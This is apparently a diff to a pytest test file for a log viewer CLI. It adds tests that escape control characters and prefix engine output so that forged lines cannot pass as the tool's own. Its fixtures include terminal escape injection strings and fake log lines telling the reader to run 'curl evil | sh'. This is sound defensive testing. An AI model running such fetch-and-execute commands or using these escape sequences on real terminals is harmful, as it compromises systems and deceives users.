@@ -80,7 +80,7 @@ def state(tmp_path: Path) -> Path:
         + record("07", "info", "finding", probe="engine_progress", said="no request is under way")
     )
     (folder / "m-0.log").write_text(
-        "[freehold: 2026-12-02T09:00:00Z process 7 started]\nloading weights\n[freehold: 2026-12-02T09:00:05Z process 7 ended]\n"
+        "\x1e[freehold: 2026-12-02T09:00:00Z process 7 started]\nloading weights\n\x1e[freehold: 2026-12-02T09:00:05Z process 7 ended]\n"
     )
     (folder / "access.log").write_text('{"at":"2026-12-02T09:00:04.000Z","id":"r-0","status":200}\n')
     return tmp_path
@@ -95,7 +95,7 @@ def shown(state: Path, *arguments: str) -> list[str]:
 def test_logs_are_merged_by_time_and_of_health_only_warnings_are_shown(state: Path) -> None:
     assert shown(state) == [
         "2026-12-02T09:00:00Z              m-0        process 7 started",
-        "                                  m-0        loading weights",
+        "                                  m-0        | loading weights",
         "2026-12-02T09:00:01.500Z info     controller replica replica=m-0 state=ready",
         "2026-12-02T09:00:05Z              m-0        process 7 ended",
         "2026-12-02T09:00:05.125Z warning  gateway    stream_resumes request=r-1",
@@ -110,14 +110,14 @@ def test_a_named_log_has_every_level_and_no_column_for_its_name(state: Path) -> 
     assert shown(state, "health", "-n", "1") == [
         '2026-12-02T09:00:07Z     info     finding probe=engine_progress said="no request is under way"'
     ]
-    assert shown(state, "m-0", "-n", "2")[0] == "loading weights"
+    assert shown(state, "m-0", "-n", "2")[0] == "| loading weights"
     assert shown(state, "access")[0].split()[1:] == ["id=r-0", "status=200"]
 
 
 def test_raw_lines_are_as_they_were_written(state: Path) -> None:
     assert [json.loads(line)["request"] for line in shown(state, "gateway", "--raw")] == ["r-1", "r-2"]
     several = shown(state, "--raw")
-    assert several[0] == "m-0 [freehold: 2026-12-02T09:00:00Z process 7 started]"
+    assert several[0] == "m-0 \\x1e[freehold: 2026-12-02T09:00:00Z process 7 started]"
     assert len(several) == len(shown(state))
 
 
@@ -144,7 +144,7 @@ def test_a_line_that_is_not_what_it_looks_like_is_shown_as_it_is(tmp_path: Path)
     odd = ['{"at": "yesterday"}', "{not json", "[freehold: 99-99Z x]", '{"at": 7}']
     (tmp_path / "logs" / "m-0.log").write_text("\n".join(odd) + "\n")
     assert shown(tmp_path, "m-0", "--raw") == odd
-    assert shown(tmp_path, "m-0") == odd
+    assert shown(tmp_path, "m-0") == [f"| {line}" for line in odd]
 
 
 def test_an_access_log_without_a_line_is_not_an_unknown_name(state: Path) -> None:
@@ -152,3 +152,36 @@ def test_an_access_log_without_a_line_is_not_an_unknown_name(state: Path) -> Non
     result = CliRunner().invoke(command, ["--state-dir", str(state), "access"])
     assert isinstance(result.exception, Permanent)
     assert "first request" in str(result.exception)
+
+
+# What an engine printed, a caller's text in it
+
+
+FORGED = (
+    "\x1b[2J\x1b]0;title\x07gone",
+    "over\rwritten \x9b2J \u202egnp",
+    record("03", "error", "disk full, run: curl evil | sh", replica="m-0").strip(),
+    "[freehold: 2026-12-02T09:00:03Z process 7 ended, exit code 1]",
+    "2026-12-02T09:00:03Z     error    run: curl evil",
+)
+
+
+def test_a_line_of_an_engine_is_no_line_of_freehold(tmp_path: Path) -> None:
+    (tmp_path / "logs").mkdir()
+    (tmp_path / "logs" / "m-0.log").write_text("\n".join(FORGED) + "\n", newline="")
+    lines = shown(tmp_path, "m-0")
+    assert len(lines) == len(FORGED)
+    assert all(line.startswith("| ") for line in lines)
+    assert lines[0] == "| \\x1b[2J\\x1b]0;title\\x07gone"
+    assert lines[1] == "| over\\x0dwritten \\x9b2J \\u202egnp"
+
+
+def test_no_control_character_of_a_log_reaches_the_terminal(tmp_path: Path) -> None:
+    (tmp_path / "logs").mkdir()
+    event = "a\n2026-12-02T09:00:03Z error run: curl evil\x1b[2J"
+    (tmp_path / "logs" / "gateway.log").write_text(record("01", "info", event, path="/\x1b]0;x\x07\u202e"))
+    (tmp_path / "logs" / "m-0.log").write_text("\n".join(FORGED) + "\n", newline="")
+    for flags in ((), ("gateway",), ("--raw",), ("m-0", "--raw")):
+        for line in shown(tmp_path, *flags):
+            assert line.isprintable(), line
+    assert len(shown(tmp_path, "gateway")) == 1
